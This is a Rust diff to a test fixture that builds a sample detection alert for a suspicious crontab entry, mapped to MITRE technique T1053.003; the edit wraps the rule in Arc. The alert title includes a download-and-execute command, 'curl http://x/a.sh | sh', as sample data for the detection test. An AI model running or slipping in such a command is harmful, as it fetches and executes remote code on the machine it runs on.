@@ -43,7 +43,7 @@ pub(crate) mod fixtures {
     pub fn alert() -> Alert {
         Alert {
             id: "9f2c61a0b3d4e5f6".into(),
-            rule: AlertRule {
+            rule: std::sync::Arc::new(AlertRule {
                 name: "osquery_suspicious_cron".into(),
                 id: "0b8c3c52-7c1e-4a43-9b0e-3f1c2d4e5f60".into(),
                 title: "Suspicious crontab entry".into(),
@@ -51,7 +51,7 @@ pub(crate) mod fixtures {
                 description: Some("A cron job fetches and runs code.".into()),
                 references: vec!["https://attack.mitre.org/techniques/T1053/003/".into()],
                 runbook: Some("Check who added the entry: `crontab -l -u <user>`.".into()),
-            },
+            }),
             severity: Level::High,
             title: "Suspicious cron job on web-1: curl http://x/a.sh | sh <now>".into(),
             dedup: Dedup {
@@ -75,7 +75,8 @@ pub(crate) mod fixtures {
                     "privilege-escalation".into(),
                 ],
                 url: Some("https://attack.mitre.org/techniques/T1053/003".into()),
-            }],
+            }]
+            .into(),
             query: Some("crontab".into()),
             samples: vec![],
         }
